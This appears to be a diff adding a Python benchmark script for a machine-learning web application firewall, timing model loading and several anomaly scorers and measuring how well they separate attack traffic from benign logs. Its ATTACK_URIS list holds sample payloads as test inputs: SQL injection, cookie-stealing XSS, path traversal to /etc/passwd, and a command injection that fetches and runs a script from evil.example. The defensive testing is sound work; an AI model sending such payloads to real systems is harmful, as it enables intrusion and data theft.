@@ -0,0 +1,546 @@
+#!/usr/bin/env python3
+"""
+Inference Benchmarks
+Measures model loading and scoring costs of the WAF inference path
+"""
+
+import argparse
+import json
+import shutil
+import subprocess
+import sys
+import tempfile
+import time
+from pathlib import Path
+from typing import Any, Callable, Dict, List, Optional, Tuple
+
+import numpy as np
+import torch
+from torch.utils.data import DataLoader
+
+# Resolve WAF root
+WAF_ROOT = Path(__file__).resolve().parents[1]
+sys.path.insert(0, str(WAF_ROOT / 'ml-pipeline' / 'preprocessing'))
+sys.path.insert(0, str(WAF_ROOT / 'ml-pipeline' / 'training'))
+sys.path.insert(0, str(WAF_ROOT / 'ml-pipeline' / 'inference'))
+
+from columnar_processor import ColumnarLogProcessor  # type: ignore
+from early_exit import ExitHeadTrainer  # type: ignore
+from featurizer import SequenceFeaturizer  # type: ignore
+from log_processor import DEFAULT_DRAIN_PARAMS  # type: ignore
+from hypersphere_scorer import HypersphereScorer  # type: ignore
+from knn_index import BenignIndex, BenignIndexBuilder, write_index  # type: ignore
+from knn_scorer import KNNScorer  # type: ignore
+from masked_key_scorer import MaskedKeyScorer  # type: ignore
+from model_artifact import export_checkpoint, load_artifact  # type: ignore
+from scoring_graph import ScoringGraph  # type: ignore
+from trainer import LogSequenceDataset, WAFTrainer, collate_fn  # type: ignore
+from waf_model import WAFTokenizer, WAFTransformer, WAFTransformerConfig, create_waf_model, load_tokenizer  # type: ignore
+
+DEFAULT_LOG_PATH = WAF_ROOT / 'data' / 'logs' / 'benign_synth.log'
+
+def load_sequences(path: Path, limit: int, featurizer_config: Optional[Dict[str, Any]] = None) -> List[List[str]]:
+    """Featurize up to limit log lines"""
+    processor = ColumnarLogProcessor(featurizer=SequenceFeaturizer(featurizer_config))
+    return processor.build_sequences([str(path)], max_sequences=limit)
+
+def timed(fn: Callable[[], Any], repeat: int = 5) -> float:
+    """Best wall time of several runs"""
+    best = float('inf')
+    for _ in range(repeat):
+        start = time.perf_counter()
+        fn()
+        best = min(best, time.perf_counter() - start)
+    return best
+
+def dir_bytes(paths: List[Path]) -> int:
+    """Total size of files (directories are summed recursively)"""
+    total = 0
+    for path in paths:
+        files = path.rglob('*') if path.is_dir() else [path]
+        total += sum(f.stat().st_size for f in files if f.is_file())
+    return total
+
+def load_checkpoint(model_path: Path):
+    """Checkpoint load as done by the service before inference artifacts (baseline)"""
+    checkpoint = torch.load(str(model_path), map_location='cpu')
+    config = WAFTransformerConfig(**checkpoint['model_config'])
+    model = WAFTransformer(config)
+    model.load_state_dict(checkpoint['model_state_dict'])
+    model.eval()
+    tokenizer = load_tokenizer(str(model_path).replace('.pt', '_tokenizer.json'), vocab_size=config.vocab_size)
+    return model, tokenizer
+
+def bench_cold_start(sequences: List[List[str]]) -> Dict[str, Any]:
+    """Compare training-checkpoint loading with the inference artifact"""
+    model, tokenizer = create_waf_model()
+    tokenizer.build_vocabulary(sequences)
+    trainer = WAFTrainer(model, tokenizer, featurizer_config=SequenceFeaturizer().to_config())
+    # One optimizer step so the checkpoint carries the AdamW moments like a real one
+    sum(p.sum() for p in model.parameters()).backward()
+    trainer.optimizer.step()
+    
+    with tempfile.TemporaryDirectory() as tmp:
+        model_path = Path(tmp) / 'best_model.pt'
+        trainer.save_model(model_path)
+        artifact_path = export_checkpoint(str(model_path), drain_params=dict(DEFAULT_DRAIN_PARAMS))
+        tokenizer_path = Path(str(model_path).replace('.pt', '_tokenizer.json'))
+        
+        checkpoint_s = timed(lambda: load_checkpoint(model_path))
+        artifact_s = timed(lambda: load_artifact(str(artifact_path)))
+        
+        # Same weights and vocabulary either way
+        reference_model, reference_tokenizer = load_checkpoint(model_path)
+        artifact_model, artifact_tokenizer, _ = load_artifact(str(artifact_path))
+        reference_state = reference_model.state_dict()
+        weights_match = all(torch.equal(reference_state[name], tensor) for name, tensor in artifact_model.state_dict().items())
+        return {
+            'parameters': sum(p.numel() for p in model.parameters()),
+            'vocab_entries': tokenizer.next_id,
+            'checkpoint_load_s': checkpoint_s,
+            'artifact_load_s': artifact_s,
+            'speedup': checkpoint_s / max(artifact_s, 1e-9),
+            'checkpoint_bytes': dir_bytes([model_path, tokenizer_path]),
+            'artifact_bytes': dir_bytes([artifact_path]),
+            'tokenizer_json_bytes': dir_bytes([tokenizer_path]),
+            'weights_match': weights_match and len(reference_state) == len(artifact_model.state_dict()),
+            'vocab_match': reference_tokenizer.token_to_id == artifact_tokenizer.token_to_id
+        }
+
+def bench_scoring(sequences: List[List[str]], batch_size: int = 32, max_length: int = 128) -> Dict[str, Any]:
+    """Compare the full eager forward with the bucketed scoring graph (eager and traced)"""
+    model, tokenizer = create_waf_model()
+    tokenizer.build_vocabulary(sequences)
+    model.eval()
+    batches = [
+        tokenizer.encode_batch(sequences[i:i + batch_size], max_length=max_length)
+        for i in range(0, min(len(sequences), 20 * batch_size), batch_size)
+    ]
+    
+    def full_forward():
+        with torch.no_grad():
+            return torch.cat([model(batch['input_ids'], batch['attention_mask'])['anomaly_score'] for batch in batches])
+            
+    results = {'full_forward': {'batch_ms': timed(full_forward, repeat=2) * 1000 / len(batches)}}
+    reference = full_forward()
+    for mode in ('eager', 'trace'):
+        scorer = ScoringGraph(model, mode=mode, batch_buckets=(1, batch_size))
+        start = time.perf_counter()
+        scorer.warmup()
+        warmup_s = time.perf_counter() - start
+        
+        def score():
+            return torch.cat([scorer(batch['input_ids'], batch['attention_mask']) for batch in batches])
+            
+        elapsed = timed(score, repeat=2)
+        single = batches[0]
+        single_s = timed(lambda: scorer(single['input_ids'][:1], single['attention_mask'][:1]), repeat=20)
+        results[mode] = {
+            'batch_ms': elapsed * 1000 / len(batches),
+            'single_ms': single_s * 1000,
+            'warmup_s': warmup_s,
+            'max_abs_diff': float((score() - reference).abs().max()),
+            'buckets': scorer.stats()['latency']
+        }
+    results['speedup_batch'] = results['full_forward']['batch_ms'] / results['eager']['batch_ms']
+    return results
+
+def padded_batch(lengths: List[int], max_length: int, vocab_size: int) -> Dict[str, torch.Tensor]:
+    """Random right-padded batch with the given unpadded lengths"""
+    input_ids = torch.randint(5, vocab_size, (len(lengths), max_length))
+    attention_mask = (torch.arange(max_length).unsqueeze(0) < torch.tensor(lengths).unsqueeze(1)).long()
+    return {'input_ids': input_ids * attention_mask, 'attention_mask': attention_mask}
+
+def bench_encoder(sequences: List[List[str]], batch_size: int = 32, max_length: int = 128, batches: int = 10) -> Dict[str, Any]:
+    """Compare the per-layer loop with the nested-tensor fast path at several padding ratios"""
+    model, tokenizer = create_waf_model()
+    tokenizer.build_vocabulary(sequences)
+    model.eval()
+    generator = torch.Generator().manual_seed(0)
+    
+    # Real featurized traffic, then synthetic length mixes
+    cases = {'logs': [tokenizer.encode_batch(sequences[i:i + batch_size], max_length=max_length) for i in range(0, batches * batch_size, batch_size)]}
+    for padding in (0.25, 0.5, 0.75, 0.9):
+        mean_length = max(2, int(max_length * (1 - padding)))
+        cases[f"padding_{padding}"] = [
+            padded_batch(torch.randint(max(2, mean_length // 2), min(max_length, mean_length * 3 // 2) + 1, (batch_size,), generator=generator).tolist(), max_length, tokenizer.next_id)
+            for _ in range(batches)
+        ]
+        
+    results = {}
+    with torch.no_grad():
+        for name, case in cases.items():
+            loop_s = timed(lambda: [model.encode(b['input_ids'], b['attention_mask']) for b in case], repeat=2)
+            fast_s = timed(lambda: [model.encode(b['input_ids'], b['attention_mask'], fast_path=True) for b in case], repeat=2)
+            # Equivalence against the layer loop on unpadded positions
+            max_diff = 0.0
+            for b in case:
+                mask = b['attention_mask'].unsqueeze(-1).bool()
+                loop = model.encode(b['input_ids'], b['attention_mask']).masked_fill(~mask, 0)
+                fast = model.encode(b['input_ids'], b['attention_mask'], fast_path=True)
+                max_diff = max(max_diff, float((loop - fast).abs().max()))
+            rows = batch_size * len(case)
+            results[name] = {
+                'padding_ratio': 1 - float(sum(b['attention_mask'].sum() for b in case)) / (rows * max_length),
+                'loop_seq_per_s': rows / loop_s,
+                'fast_path_seq_per_s': rows / fast_s,
+                'speedup': loop_s / fast_s,
+                'max_abs_diff': max_diff,
+                'equivalent': max_diff < 1e-4
+            }
+    return results
+
+# Attack requests scored against the benign corpus (same log format as benign_synth.log)
+ATTACK_URIS = [
+    "/ecommerce/search?q=' OR '1'='1",
+    "/ecommerce/search?q=%27%20OR%201%3D1--",
+    "/ecommerce/product?id=1;DROP TABLE users;--",
+    "/ecommerce/product?id=1 UNION SELECT username,password FROM users",
+    "/blog-cms/?q=<script>alert(1)</script>",
+    "/blog-cms/post?id=<img src=x onerror=alert(document.cookie)>",
+    "/rest-api/api/users/../../../../etc/passwd",
+    "/rest-api/api/users?name=`cat /etc/passwd`",
+    "/rest-api/api/tasks?id=1;wget http://evil.example/x.sh|sh",
+    "/assets/..%2f..%2f..%2fwindows/win.ini",
+]
+ATTACK_LINE = '6.6.6.{n} - - [23/Sep/2025:10:00:{n:02d} +0000] "GET {uri} HTTP/1.1" 200 512 "-" "sqlmap/1.7"'
+
+def attack_sequences(featurizer_config: Optional[Dict[str, Any]] = None) -> List[List[str]]:
+    """Featurized attack requests"""
+    with tempfile.TemporaryDirectory() as tmp:
+        attack_log = Path(tmp) / 'attacks.log'
+        attack_log.write_text('\n'.join(ATTACK_LINE.format(n=n, uri=uri) for n, uri in enumerate(ATTACK_URIS)) + '\n')
+        return load_sequences(attack_log, len(ATTACK_URIS), featurizer_config)
+
+def trained_model(sequences: List[List[str]], batch_size: int = 32, max_length: int = 64) -> WAFTrainer:
+    """Trainer whose model is trained for one epoch on the first 2000 sequences (eval mode)"""
+    model, tokenizer = create_waf_model()
+    tokenizer.build_vocabulary(sequences)
+    trainer = WAFTrainer(model, tokenizer)
+    dataset = LogSequenceDataset(sequences[:2000], tokenizer, max_length=max_length)
+    trainer.train_epoch(DataLoader(dataset, batch_size=batch_size, shuffle=True, collate_fn=collate_fn))
+    model.eval()
+    return trainer
+
+def bench_early_exit(sequences: List[List[str]], batch_size: int = 32, max_length: int = 64) -> Dict[str, Any]:
+    """Early-exit scoring against the full model: layers executed and latency on
+    benign traffic, decision parity on attack payloads
+    
+    The model is trained briefly, exit heads are fitted post hoc on one split
+    and the threshold is set at the 99th percentile of full-model benign
+    scores (the scores' absolute range depends on training).
+    """
+    trainer = trained_model(sequences, batch_size=batch_size, max_length=max_length)
+    model, tokenizer = trainer.model, trainer.tokenizer
+    calibration, holdout = sequences[2000:5000], sequences[5000:5000 + 20 * batch_size]
+    
+    full = ScoringGraph(model, batch_buckets=(1, batch_size))
+    calibration_batches = [tokenizer.encode_batch(calibration[i:i + batch_size], max_length=max_length) for i in range(0, len(calibration), batch_size)]
+    benign_scores = torch.cat([full(b['input_ids'], b['attention_mask']) for b in calibration_batches])
+    threshold = float(benign_scores.quantile(0.99))
+    
+    model.add_exit_heads(list(range(model.config.num_hidden_layers - 1)))
+    # Half of the split calibrates the margin, so enough flagged requests are checked
+    report = ExitHeadTrainer(model, tokenizer, max_length=max_length).train(calibration, val_split=0.5, threshold=threshold)
+    early = ScoringGraph(model, batch_buckets=(1, batch_size), exit_threshold=threshold)
+    
+    def compare(batches: List[Dict[str, torch.Tensor]]) -> Dict[str, Any]:
+        full_scores = torch.cat([full(b['input_ids'], b['attention_mask']) for b in batches])
+        early_scores, depths = map(torch.cat, zip(*[early.score_with_depth(b['input_ids'], b['attention_mask']) for b in batches]))
+        full_flags, early_flags = full_scores > threshold, early_scores > threshold
+        return {
+            'requests': len(full_scores),
+            'avg_layers': float(depths.float().mean()),
+            'early_exit_rate': float((depths < model.config.num_hidden_layers).float().mean()),
+            'flagged_full': int(full_flags.sum()),
+            'flagged_early_exit': int(early_flags.sum()),
+            'decision_agreement': float((full_flags == early_flags).float().mean()),
+            'flag_recall': float(early_flags[full_flags].float().mean()) if full_flags.any() else 1.0
+        }
+        
+    holdout_batches = [tokenizer.encode_batch(holdout[i:i + batch_size], max_length=max_length) for i in range(0, len(holdout), batch_size)]
+    benign = compare(holdout_batches)
+    full_ms = timed(lambda: [full(b['input_ids'], b['attention_mask']) for b in holdout_batches], repeat=3) * 1000 / len(holdout_batches)
+    early_ms = timed(lambda: [early.score_with_depth(b['input_ids'], b['attention_mask']) for b in holdout_batches], repeat=3) * 1000 / len(holdout_batches)
+    single = holdout_batches[0]
+    single_full_ms = timed(lambda: [full(single['input_ids'][i:i + 1], single['attention_mask'][i:i + 1]) for i in range(batch_size)], repeat=3) * 1000 / batch_size
+    single_early_ms = timed(lambda: [early.score_with_depth(single['input_ids'][i:i + 1], single['attention_mask'][i:i + 1]) for i in range(batch_size)], repeat=3) * 1000 / batch_size
+    return {
+        'threshold': threshold,
+        'exit_layers': model.exit_layers,
+        'calibration': report['calibration']['chosen'],
+        'benign': {
+            **benign,
+            'full_batch_ms': full_ms,
+            'early_exit_batch_ms': early_ms,
+            'batch_latency_reduction': 1 - early_ms / full_ms,
+            'full_single_ms': single_full_ms,
+            'early_exit_single_ms': single_early_ms,
+            'single_latency_reduction': 1 - single_early_ms / single_full_ms
+        },
+        'attacks': compare([tokenizer.encode_batch(attack_sequences(), max_length=max_length)])
+    }
+
+def separation(scorer: Callable, batches: List[Dict[str, torch.Tensor]], attacks: Dict[str, torch.Tensor]) -> Dict[str, float]:
+    """Mean benign/attack scores and ROC AUC (chance an attack scores above a benign request, ties count half)"""
+    benign = torch.cat([scorer(b['input_ids'], b['attention_mask']) for b in batches])
+    attack = scorer(attacks['input_ids'], attacks['attention_mask'])
+    above = (attack.unsqueeze(1) > benign.unsqueeze(0)).float() + 0.5 * (attack.unsqueeze(1) == benign.unsqueeze(0)).float()
+    return {
+        'benign_mean': float(benign.mean()),
+        'attack_mean': float(attack.mean()),
+        'roc_auc': float(above.mean())
+    }
+
+def masked_key_reference(model: WAFTransformer, tokenizer: WAFTokenizer, input_ids: torch.Tensor, attention_mask: torch.Tensor, top_k: int) -> List[int]:
+    """Missed keys per row, one full forward (all positions, full MLM logits) per masked key"""
+    non_keys = {tokenizer.special_tokens[name] for name in ('[PAD]', '[CLS]', '[SEP]', '[MASK]')}
+    misses = []
+    with torch.no_grad():
+        for row in range(input_ids.shape[0]):
+            missed = 0
+            for position in range(input_ids.shape[1]):
+                token = int(input_ids[row, position])
+                if not attention_mask[row, position] or token in non_keys:
+                    continue
+                masked = input_ids[row:row + 1].clone()
+                masked[0, position] = tokenizer.special_tokens['[MASK]']
+                logits = model(masked, attention_mask[row:row + 1])['mlm_logits'][0, position]
+                missed += int(token not in logits.topk(top_k).indices.tolist())
+            misses.append(missed)
+    return misses
+
+def bench_masked_keys(
+    sequences: List[List[str]],
+    batch_size: int = 32,
+    max_length: int = 64,
+    top_k: int = 5,
+    log_path: Path = DEFAULT_LOG_PATH
+) -> Dict[str, Any]:
+    """Cost and separation of the LogBERT masked-key score against the anomaly head score
+    
+    Throughput is in sequences/sec; the reference runs one full forward per
+    masked key. Separation is the ROC AUC of attack against benign requests,
+    featurized with query strings (the default rules drop them, and with them
+    the payloads).
+    """
+    featurizer_config = {'preset': 'pipeline', 'include_query': True}
+    sequences = load_sequences(log_path, len(sequences), featurizer_config)
+    trainer = trained_model(sequences, batch_size=batch_size, max_length=max_length)
+    model, tokenizer = trainer.model, trainer.tokenizer
+    holdout = sequences[2000:2000 + 10 * batch_size]
+    batches = [tokenizer.encode_batch(holdout[i:i + batch_size], max_length=max_length) for i in range(0, len(holdout), batch_size)]
+    attacks = tokenizer.encode_batch(attack_sequences(featurizer_config), max_length=max_length)
+    
+    head = ScoringGraph(model, batch_buckets=(1, batch_size))
+    masked = MaskedKeyScorer(model, tokenizer.special_tokens, top_k=top_k)
+    head_s = timed(lambda: [head(b['input_ids'], b['attention_mask']) for b in batches], repeat=3)
+    masked_s = timed(lambda: [masked(b['input_ids'], b['attention_mask']) for b in batches], repeat=3)
+    single = batches[0]
+    single_s = timed(lambda: [masked(single['input_ids'][i:i + 1], single['attention_mask'][i:i + 1]) for i in range(batch_size)], repeat=3)
+    
+    # Equivalence with the per-key reference on a few rows
+    sample = {name: tensor[:8] for name, tensor in single.items()}
+    start = time.perf_counter()
+    reference = masked_key_reference(model, tokenizer, sample['input_ids'], sample['attention_mask'], top_k)
+    reference_s = time.perf_counter() - start
+    batched = masked.score_keys(sample['input_ids'], sample['attention_mask'])['misses'].tolist()
+    
+    rows = len(holdout)
+    variants = int(sum(masked.score_keys(b['input_ids'], b['attention_mask'])['keys'].sum() for b in batches))
+    return {
+        'top_k': top_k,
+        'keys_per_sequence': variants / rows,
+        'head_seq_per_s': rows / head_s,
+        'masked_keys_seq_per_s': rows / masked_s,
+        'masked_keys_single_seq_per_s': batch_size / single_s,
+        'reference_seq_per_s': len(reference) / reference_s,
+        'cost_vs_head': masked_s / head_s,
+        'speedup_vs_reference': (rows / masked_s) / (len(reference) / reference_s),
+        'misses_match_reference': batched == reference,
+        'head_score': separation(head, batches, attacks),
+        'masked_key_score': separation(masked, batches, attacks)
+    }
+
+def bench_hypersphere(
+    sequences: List[List[str]],
+    batch_size: int = 32,
+    max_length: int = 64,
+    log_path: Path = DEFAULT_LOG_PATH
+) -> Dict[str, Any]:
+    """Hypersphere center-distance score against the anomaly head score on the same batches
+    
+    The center and calibration table go through a saved checkpoint and an
+    inference artifact, as in serving. Featurized with query strings, as for
+    the masked-key benchmark.
+    """
+    featurizer_config = {'preset': 'pipeline', 'include_query': True}
+    sequences = load_sequences(log_path, len(sequences), featurizer_config)
+    trainer = trained_model(sequences, batch_size=batch_size, max_length=max_length)
+    calibration = LogSequenceDataset(sequences[2000:3000], trainer.tokenizer, max_length=max_length)
+    trainer.evaluate(DataLoader(calibration, batch_size=batch_size, collate_fn=collate_fn))
+    
+    with tempfile.TemporaryDirectory() as tmp:
+        model_path = Path(tmp) / 'best_model.pt'
+        trainer.save_model(model_path)
+        artifact_path = export_checkpoint(str(model_path))
+        model, tokenizer, metadata = load_artifact(str(artifact_path))
+    hypersphere = metadata['hypersphere']
+    
+    holdout = sequences[3000:3000 + 10 * batch_size]
+    batches = [tokenizer.encode_batch(holdout[i:i + batch_size], max_length=max_length) for i in range(0, len(holdout), batch_size)]
+    attacks = tokenizer.encode_batch(attack_sequences(featurizer_config), max_length=max_length)
+    
+    head = ScoringGraph(model, batch_buckets=(1, batch_size))
+    scorer = HypersphereScorer(model, hypersphere['center'], hypersphere['percentiles'])
+    head_s = timed(lambda: [head(b['input_ids'], b['attention_mask']) for b in batches], repeat=3)
+    hypersphere_s = timed(lambda: [scorer(b['input_ids'], b['attention_mask']) for b in batches], repeat=3)
+    
+    # Both scores from one encoder pass match the separate scorers
+    both = scorer.scores(batches[0]['input_ids'], batches[0]['attention_mask'])
+    head_diff = float((both['head'] - head(batches[0]['input_ids'], batches[0]['attention_mask'])).abs().max())
+    holdout_scores = torch.cat([scorer(b['input_ids'], b['attention_mask']) for b in batches])
+    rows = len(holdout)
+    return {
+        'center_norm': float(torch.tensor(hypersphere['center']).norm()),
+        'calibration_median_distance': hypersphere['percentiles'][len(hypersphere['percentiles']) // 2],
+        'head_seq_per_s': rows / head_s,
+        'hypersphere_seq_per_s': rows / hypersphere_s,
+        'cost_vs_head': hypersphere_s / head_s,
+        'same_pass_head_max_abs_diff': head_diff,
+        'holdout_flagged_at_0.99': float((holdout_scores > 0.99).float().mean()),
+        'head_score': separation(head, batches, attacks),
+        'hypersphere_score': separation(scorer, batches, attacks)
+    }
+
+def bench_knn(
+    sequences: List[List[str]],
+    batch_size: int = 32,
+    max_length: int = 64,
+    log_path: Path = DEFAULT_LOG_PATH,
+    sizes: Tuple[int, ...] = (10_000, 100_000, 1_000_000)
+) -> Dict[str, Any]:
+    """kNN benign-index score on the real corpus, and index build/memory/query scaling
+    
+    The scaling runs index synthetic corpora of the given sizes: unique
+    embeddings are the real ones with small random perturbations, so the
+    encoder cost (measured on the real corpus) is left out.
+    """
+    featurizer_config = {'preset': 'pipeline', 'include_query': True}
+    sequences = load_sequences(log_path, len(sequences), featurizer_config)
+    trainer = trained_model(sequences, batch_size=batch_size, max_length=max_length)
+    model, tokenizer = trainer.model, trainer.tokenizer
+    corpus, calibration = sequences[:8000], sequences[8000:9000]
+    holdout = sequences[9000:9000 + 10 * batch_size]
+    batches = [tokenizer.encode_batch(holdout[i:i + batch_size], max_length=max_length) for i in range(0, len(holdout), batch_size)]
+    attacks = tokenizer.encode_batch(attack_sequences(featurizer_config), max_length=max_length)
+    builder = BenignIndexBuilder(model, tokenizer, max_length=max_length, batch_size=256)
+    
+    with tempfile.TemporaryDirectory() as tmp:
+        metadata = builder.build(corpus, str(Path(tmp) / 'corpus.knn'), calibration_sequences=calibration)
+        scorer = KNNScorer(model, BenignIndex(str(Path(tmp) / 'corpus.knn')))
+        head = ScoringGraph(model, batch_buckets=(1, batch_size))
+        head_s = timed(lambda: [head(b['input_ids'], b['attention_mask']) for b in batches], repeat=3)
+        knn_s = timed(lambda: [scorer(b['input_ids'], b['attention_mask']) for b in batches], repeat=3)
+        real = {
+            'corpus_sequences': len(corpus),
+            'unique_sequences': metadata['size'],
+            'build_seq_per_s': len(corpus) / metadata['build_s'],
+            'head_seq_per_s': len(holdout) / head_s,
+            'knn_seq_per_s': len(holdout) / knn_s,
+            'head_score': separation(head, batches, attacks),
+            'knn_score': separation(scorer, batches, attacks)
+        }
+        base = np.concatenate(list(builder.embed(corpus)))
+        
+        def synthetic(size: int, block: int = 65536):
+            generator = np.random.default_rng(size)
+            for start in range(0, size, block):
+                count = min(block, size - start)
+                rows = base[generator.integers(0, len(base), count)]
+                # Perturbations up to ~0.1 in norm, so each row has a well-defined neighbourhood
+                scale = generator.uniform(0, 0.1, (count, 1)) / np.sqrt(rows.shape[1])
+                rows = rows + (generator.normal(0, 1, rows.shape) * scale).astype(np.float32)
+                yield rows / np.linalg.norm(rows, axis=1, keepdims=True)
+                
+        queries = torch.from_numpy(next(synthetic(batch_size)).copy())
+        scaling = {}
+        for size in sizes:
+            exact, runs = None, {}
+            for name, dtype, partitions in (('flat_float32', 'float32', 0), ('flat_float16', 'float16', 0), ('ivf_float16', 'float16', int(size ** 0.5))):
+                index_path = Path(tmp) / f'{size}_{name}.knn'
+                start = time.perf_counter()
+                write_index(str(index_path), synthetic(size), dtype=dtype, partitions=partitions)
+                build_s = time.perf_counter() - start
+                start = time.perf_counter()
+                index = BenignIndex(str(index_path))
+                load_s = time.perf_counter() - start
+                query_s = timed(lambda: index.search(queries), repeat=3)
+                distances = index.search(queries)
+                if exact is None:
+                    exact = distances
+                runs[name] = {
+                    'partitions': partitions,
+                    'build_s': build_s,
+                    'mapped_mb': index.nbytes['mapped'] / 2 ** 20,
+                    'resident_kb': index.nbytes['resident'] / 1024,
+                    'load_ms': load_s * 1000,
+                    'query_ms_per_batch': query_s * 1000,
+                    # Neighbours at least as close as the exact k-th neighbour
+                    'recall_at_k': float((distances <= exact[:, -1:] + 1e-3).float().mean()),
+                    'score_max_abs_diff': float((distances.mean(dim=1) - exact.mean(dim=1)).abs().max())
+                }
+                del index
+                shutil.rmtree(index_path)
+            scaling[size] = runs
+    return {'real_corpus': real, 'scaling': scaling}
+
+# Training-only or optional modules that must stay out of the serving import graph
+TRAINING_ONLY_MODULES = ('transformers', 'sklearn', 'trainer', 'columnar_processor', 'tokenizers', 'redis', 'drain3')
+
+IMPORT_PROBE = """
+import json, sys, time
+sys.path.insert(0, {inference_dir!r})
+start = time.perf_counter()
+import waf_service
+elapsed = time.perf_counter() - start
+print(json.dumps({{'import_s': elapsed, 'loaded': [m for m in {modules!r} if m in sys.modules]}}))
+"""
+
+def bench_import(sequences: List[List[str]], repeat: int = 3) -> Dict[str, Any]:
+    """Time a fresh-interpreter import of the inference service"""
+    probe = IMPORT_PROBE.format(inference_dir=str(WAF_ROOT / 'ml-pipeline' / 'inference'), modules=TRAINING_ONLY_MODULES)
+    runs = []
+    for _ in range(repeat):
+        output = subprocess.run([sys.executable, '-c', probe], capture_output=True, text=True, check=True).stdout
+        runs.append(json.loads(output.strip().splitlines()[-1]))
+    return {
+        'import_s': min(run['import_s'] for run in runs),
+        'training_modules_loaded': runs[-1]['loaded']
+    }
+
+BENCHMARKS = {
+    'cold_start': bench_cold_start,
+    'early_exit': bench_early_exit,
+    'encoder': bench_encoder,
+    'hypersphere': bench_hypersphere,
+    'import': bench_import,
+    'knn': bench_knn,
+    'masked_keys': bench_masked_keys,
+    'scoring': bench_scoring,
+}
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__)
+    parser.add_argument('benchmark', choices=sorted(BENCHMARKS) + ['all'], nargs='?', default='all')
+    parser.add_argument('--log', type=Path, default=DEFAULT_LOG_PATH)
+    parser.add_argument('--requests', type=int, default=10_000)
+    args = parser.parse_args()
+    
+    sequences = load_sequences(args.log, args.requests)
+    names = sorted(BENCHMARKS) if args.benchmark == 'all' else [args.benchmark]
+    results = {name: BENCHMARKS[name](sequences) for name in names}
+    print(json.dumps(results, indent=2))
+
+if __name__ == '__main__':
+    main()